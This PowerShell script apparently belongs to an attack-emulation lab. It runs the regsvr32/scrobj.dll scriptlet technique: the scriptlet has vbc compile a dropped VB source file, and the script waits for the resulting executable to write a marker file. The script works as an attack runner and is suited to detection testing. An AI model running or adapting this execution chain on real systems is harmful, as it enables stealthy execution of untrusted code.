Set-StrictMode -Version Latest; $ErrorActionPreference = 'Stop'
# Attack: regsvr32 runs a scriptlet through scrobj.dll -> vbc compiles a dropped VB source -> the exe runs.
. (Join-Path $PSScriptRoot '..\..\lib\common.ps1')
Start-Transcript -LiteralPath "$ClabWork\logs\attack_regsvr32_vbc.log" -Force | Out-Null
$dir = Join-Path $env:TEMP 'clab\regsvr32'
Remove-Item -LiteralPath $dir -Recurse -Force -ErrorAction SilentlyContinue
New-Item -ItemType Directory -Force -Path $dir | Out-Null
Copy-Item -LiteralPath (Join-Path $PSScriptRoot 'tool.vb') -Destination (Join-Path $dir 'tool.vb')
$sct = [IO.File]::ReadAllText((Join-Path $PSScriptRoot 'loader.sct'))
$sct = $sct.Replace('__DIR__', $dir.Replace('\', '\\')).Replace('__VBC__', ($Net4 + '\vbc.exe').Replace('\', '\\'))
$sctPath = Join-Path $dir 'loader.sct'
Write-Utf8NoBom -Path $sctPath -Text $sct
$p = Start-Process -FilePath "$env:SystemRoot\System32\regsvr32.exe" -ArgumentList @('/s', '/n', '/u', "/i:$sctPath", 'scrobj.dll') -WorkingDirectory $dir -PassThru
if (-not $p.WaitForExit(120000)) { Stop-Process -Id $p.Id -Force; throw 'regsvr32 did not finish within 120 s' }
$marker = Join-Path $dir 'helper.txt'
Wait-Until -Description "helper.exe to write $marker" -TimeoutSeconds 30 -Condition { Test-Path -LiteralPath $marker }
Write-Host 'attack_regsvr32_vbc done'
